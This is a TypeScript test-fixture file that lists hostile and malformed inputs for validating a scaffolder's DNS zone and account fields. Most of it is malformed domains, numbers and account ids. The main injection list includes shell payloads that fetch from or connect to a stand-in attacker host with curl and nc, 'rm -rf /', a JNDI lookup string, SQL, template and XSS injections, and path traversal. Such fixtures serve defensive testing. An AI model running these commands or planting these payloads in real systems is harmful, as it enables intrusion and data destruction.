/**
 * Strings an attacker or a careless template author could put into any
 * text input: injection attempts in the languages around a scaffolder task
 * (shell, SQL, templating, HTML, HTTP headers, paths), credentials and ARNs
 * where business choices belong, control and look-alike characters, and
 * oversized values.
 */
export const INJECTION_STRINGS: string[] = [
  "'; DROP TABLE zones; --",
  "' OR '1'='1",
  '$(curl http://attacker.invalid/x)',
  '`id`',
  '; rm -rf / #',
  '| nc attacker.invalid 4444',
  '${{ secrets.AWS_SECRET_ACCESS_KEY }}',
  '${{ parameters.account | dump }}',
  "{{ '7' * 7 }}",
  '{% raw %}x{% endraw %}',
  '${jndi:ldap://attacker.invalid/a}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'a\nb',
  'a\r\nX-Injected: 1',
  'a\u0000b',
  '\u0007\u001b[31mred',
  '../../etc/passwd',
  '..',
  '%2e%2e%2f%2e%2e%2f',
  'arn:aws:iam::123456789012:role/OrganizationAccountAccessRole',
  'arn:aws:sts::123456789012:assumed-role/admin/x',
  'AKIAIOSFODNN7EXAMPLE',
  'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  '{"$ne": null}',
  '__proto__',
  'constructor',
  '*',
  '?',
  '\\',
  ' ',
  '\t',
  'a b',
  'ünïcödé',
  '🙂',
  'ｅｘａｍｐｌｅ',
  '\u202Eevil',
  'null',
  'undefined',
  '-1',
  'NaN',
];

/** Values far beyond any field's limit. */
export const OVERSIZED_STRINGS: string[] = [
  'a'.repeat(64),
  'a'.repeat(301),
  'a'.repeat(10_000),
  'x'.repeat(1_000_000),
];

/** Values of the wrong JSON type, for fields that expect a string. */
export const NOT_STRINGS: unknown[] = [
  42,
  -1,
  true,
  null,
  [],
  ['resource:default/sandbox'],
  {},
  { toString: 'x' },
];

/** Values of the wrong type or range, for fields that expect a whole number. */
export const NOT_WHOLE_NUMBERS: unknown[] = [
  -1,
  0,
  1.5,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.MAX_SAFE_INTEGER,
  '90',
  '',
  null,
  true,
  [],
  {},
];

/** DNS names no hosted zone may have. */
export const BAD_DOMAIN_NAMES: string[] = [
  '',
  '.',
  '..',
  'example.com..',
  'a..example.com',
  '.a.example.com',
  '-a.example.com',
  'a-.example.com',
  '*.example.com',
  'a*.example.com',
  '_acme.example.com',
  'a_b.example.com',
  'a b.example.com',
  'a/b.example.com',
  'a@example.com',
  'http://a.example.com',
  'a.example.com/path',
  'a.example.com:443',
  '127.0.0.1',
  '[::1]',
  `${'a'.repeat(64)}.example.com`,
  `${'a.'.repeat(126)}example.com`,
  'ü.example.com',
  'ехаmple.example.com',
  'a.exam\nple.com',
  'a.example.com\u0000',
  'a\u200b.example.com',
];

/** Names that are valid DNS names but not under the allowed parent `example.com`. */
export const NAMES_OUTSIDE_PARENTS: string[] = [
  'example.com',
  'evil.com',
  'a.evil.com',
  'example.com.evil.com',
  'a.example.com.evil.com',
  'notexample.com',
  'a.notexample.com',
  'example.co',
  'a.example.co',
  'example.com-evil.com',
  'a.example.org',
  'com',
  'a.com',
  'xn--exmple-cua.com',
  'a.xn--exmple-cua.com',
];

/**
 * Account choices that no allowlist accepts: ids of accounts outside it,
 * malformed ids, and entity references that name no account entity.
 */
export const UNKNOWN_ACCOUNTS = (outsideAllowlist: string[]): string[] => [
  ...outsideAllowlist,
  '000000000000',
  '999999999999',
  '12345678901',
  '1234567890123',
  '12345678901a',
  ' 123456789012 x',
  'resource:default/does-not-exist',
  'resource:default/',
  'group:default/platform-team',
  'user:default/guest',
  'component:default/sandbox',
  'resource:other-namespace/sandbox-171870262174',
  'kind:',
  ':::',
];
